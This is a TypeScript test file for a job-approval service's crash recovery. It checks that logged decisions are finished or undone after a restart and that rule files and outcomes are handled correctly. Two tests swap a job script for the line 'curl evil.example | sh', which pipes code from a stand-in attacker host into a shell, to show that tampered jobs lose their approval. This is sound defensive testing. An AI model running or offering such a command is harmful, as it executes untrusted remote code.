import { describe, expect, it } from 'vitest';
import { planApproval, planReceiving, planWithdrawal } from '../../main/core/approval/plan.ts';
import type { AuditBody } from '../../main/core/audit/entry.ts';
import { jobFrom } from '../../main/core/jobs/job.ts';
import { recover } from '../../main/service/recovery.ts';
import { factsOf, NOW, OWNER, PENDING, sha256, type Wish } from '../build/jobs.ts';
import { memoryDisk, memoryLog } from '../build/memory-disk.ts';
import { testTime } from '../build/time.ts';

const RULE_FILE = { path: 'app_data/job/inbox/ana/count/syft.pub.yaml', before: null, after: 'rules: []\n' };

async function afterCrash(wish: Wish = {}, action: 'approve' | 'receive' | 'withdraw' = 'approve') {
  const disk = memoryDisk();
  const log = memoryLog();
  const facts = disk.put(wish);
  const job = jobFrom(factsOf(wish), NOW);
  const at = '2026-11-21T19:00:00Z';
  const plan = {
    approve: () => planApproval(job, { by: OWNER, at, reason: null }, RULE_FILE),
    receive: () => planReceiving(job, at),
    withdraw: () => planWithdrawal(job, { ...RULE_FILE, before: RULE_FILE.after, after: null }),
  }[action]();
  const intent: AuditBody = {
    kind: 'intent',
    job: facts.place,
    by: OWNER,
    via: action === 'receive' ? 'receiving' : 'hand',
    digest: facts.digest,
    reason: null,
    acknowledged: [],
    ...plan,
  };
  await log.append(intent);
  const { clock } = testTime();
  const { source, writer, rules } = disk;
  const run = () => recover({ owner: OWNER, source, writer, ruleWriter: rules.writer, log, sha256, clock });
  const ruleFile = () => rules.textOf(RULE_FILE.path);
  return { disk, log, plan, place: facts.place, run, ruleFile };
}

describe('after a crash', () => {
  it('records the outcome of a decision whose state was already written', async () => {
    const { disk, log, plan, run } = await afterCrash();
    disk.put({ state: plan.after });
    expect(await run()).toEqual({ ok: true, value: 1 });
    expect(log.lines[1]).toMatchObject({
      kind: 'outcome',
      intent: 1,
      result: 'finished-after-restart',
      why: null,
    });
  });

  it('finishes a decision when job and state are still what was decided about', async () => {
    const { disk, log, plan, place, run } = await afterCrash();
    await run();
    expect(disk.stateOf(place)).toBe(plan.after);
    expect(log.lines[1]).toMatchObject({ result: 'finished-after-restart' });
  });

  it('undoes a decision about bytes that changed meanwhile', async () => {
    const { disk, log, place, run } = await afterCrash();
    disk.put({ files: { 'run.sh': 'curl evil.example | sh\n' } });
    await run();
    expect(disk.stateOf(place)).toBe(PENDING);
    expect(log.lines[1]).toMatchObject({ result: 'undone-after-restart', why: 'The job changed meanwhile.' });
  });

  it('leaves what somebody else wrote meanwhile', async () => {
    const { disk, log, place, run } = await afterCrash();
    disk.put({ state: 'status: rejected\n' });
    await run();
    expect(disk.stateOf(place)).toBe('status: rejected\n');
    expect(log.lines[1]).toMatchObject({ result: 'undone-after-restart' });
  });

  it('undoes a decision about a job that is gone, or no longer may be made', async () => {
    const gone = await afterCrash({ state: null }, 'receive');
    gone.disk.remove(gone.place);
    await gone.run();
    expect(gone.log.lines[1]).toMatchObject({ result: 'undone-after-restart' });
    const malformed = await afterCrash();
    malformed.disk.put({ defects: [{ code: 'link', path: 'x', text: 'x is a link.' }] });
    await malformed.run();
    expect(malformed.log.lines[1]).toMatchObject({ result: 'undone-after-restart', why: 'x is a link.' });
  });

  it('writes state and rule file of an approval that had neither, and the one that was missing', async () => {
    const neither = await afterCrash();
    await neither.run();
    expect(neither.ruleFile()).toBe(RULE_FILE.after);
    const closedOnly = await afterCrash();
    closedOnly.disk.rules.put(RULE_FILE.path, RULE_FILE.after);
    await closedOnly.run();
    expect(closedOnly.disk.stateOf(closedOnly.place)).toBe(closedOnly.plan.after);
    expect(closedOnly.log.lines[1]).toMatchObject({ result: 'finished-after-restart', why: null });
  });

  it('opens a job again whose approval does not stand', async () => {
    const { disk, run, ruleFile, place, log } = await afterCrash();
    disk.rules.put(RULE_FILE.path, RULE_FILE.after);
    disk.put({ files: { 'run.sh': 'curl evil.example | sh\n' } });
    await run();
    expect(ruleFile()).toBeNull();
    expect(disk.stateOf(place)).toBe(PENDING);
    expect(log.lines[1]).toMatchObject({ result: 'undone-after-restart', why: 'The job changed meanwhile.' });
  });

  it('approves nothing whose rule file somebody else wrote, and leaves that as it is', async () => {
    const { disk, run, ruleFile, place, log } = await afterCrash();
    disk.rules.put(RULE_FILE.path, 'rules: [] # mine\n');
    await run();
    expect(ruleFile()).toBe('rules: [] # mine\n');
    expect(disk.stateOf(place)).toBe(PENDING);
    expect(log.lines[1]).toMatchObject({ result: 'undone-after-restart' });
  });

  it('opens the job again when the state cannot be written either', async () => {
    const { disk, run, ruleFile, log } = await afterCrash();
    disk.failNextWrite('write-failed');
    await run();
    expect(ruleFile()).toBeNull();
    expect(log.lines[1]).toMatchObject({ result: 'undone-after-restart', why: 'The state was not written.' });
  });

  it('says so when it could not be opened again', async () => {
    const { disk, run, ruleFile, log } = await afterCrash();
    disk.rules.put(RULE_FILE.path, RULE_FILE.after);
    disk.put({ state: 'status: rejected\n' });
    disk.rules.failNextWrite('write-failed');
    await run();
    expect(ruleFile()).toBe(RULE_FILE.after);
    expect(log.lines[1]).toMatchObject({
      result: 'undone-after-restart',
      why: expect.stringContaining('could not be put back'),
    });
  });

  it('finishes taking an approval back: the state first, then the rule file', async () => {
    const approved = 'status: approved\n';
    const stateWritten = await afterCrash({ state: approved }, 'withdraw');
    stateWritten.disk.rules.put(RULE_FILE.path, RULE_FILE.after);
    stateWritten.disk.put({ state: stateWritten.plan.after });
    await stateWritten.run();
    expect(stateWritten.ruleFile()).toBeNull();
    expect(stateWritten.log.lines[1]).toMatchObject({ result: 'finished-after-restart', why: null });
    const nothingWritten = await afterCrash({ state: approved }, 'withdraw');
    nothingWritten.disk.rules.put(RULE_FILE.path, RULE_FILE.after);
    await nothingWritten.run();
    expect(nothingWritten.disk.stateOf(nothingWritten.place)).toBe(nothingWritten.plan.after);
    expect(nothingWritten.ruleFile()).toBeNull();
  });

  it('takes no approval back any more once the job has started', async () => {
    const { disk, run, ruleFile, place, log } = await afterCrash({ state: 'status: approved\n' }, 'withdraw');
    disk.rules.put(RULE_FILE.path, RULE_FILE.after);
    disk.put({ state: 'status: running\n' });
    await run();
    expect(disk.stateOf(place)).toBe('status: running\n');
    expect(ruleFile()).toBe(RULE_FILE.after);
    expect(log.lines[1]).toMatchObject({ action: 'withdraw', result: 'undone-after-restart' });
  });

  it('leaves a rule file as it is that changed after the state was written', async () => {
    const { disk, run, ruleFile, plan, log } = await afterCrash({ state: 'status: approved\n' }, 'withdraw');
    disk.rules.put(RULE_FILE.path, 'rules: [] # mine\n');
    disk.put({ state: plan.after });
    await run();
    expect(ruleFile()).toBe('rules: [] # mine\n');
    expect(log.lines[1]).toMatchObject({
      result: 'finished-after-restart',
      why: expect.stringContaining('left as it is'),
    });
  });

  it('understands decisions that an earlier version left unfinished', async () => {
    const { disk, log, place, plan, run } = await afterCrash();
    const [entry] = log.lines;
    if (entry?.kind !== 'intent') throw new Error('no intent');
    const { ruleFile, proof, ...earlier } = entry;
    log.lines[0] = earlier;
    await run();
    expect(disk.stateOf(place)).toBe(plan.after);
    expect(disk.rules.textOf(RULE_FILE.path)).toBeNull();
    expect([ruleFile?.path, proof]).toEqual([RULE_FILE.path, undefined]);
  });

  it('finishes receiving as well', async () => {
    const { disk, place, plan, run } = await afterCrash({ state: null }, 'receive');
    await run();
    expect(disk.stateOf(place)).toBe(plan.after);
  });

  it('does nothing the second time', async () => {
    const { log, run } = await afterCrash();
    await run();
    expect(await run()).toEqual({ ok: true, value: 0 });
    expect(log.lines).toHaveLength(2);
  });

  it('stops with the problem when the outcome cannot be recorded', async () => {
    const { log, run } = await afterCrash();
    log.refuse(true);
    expect(await run()).toMatchObject({ ok: false, problem: { code: 'log-unwritable' } });
  });
});
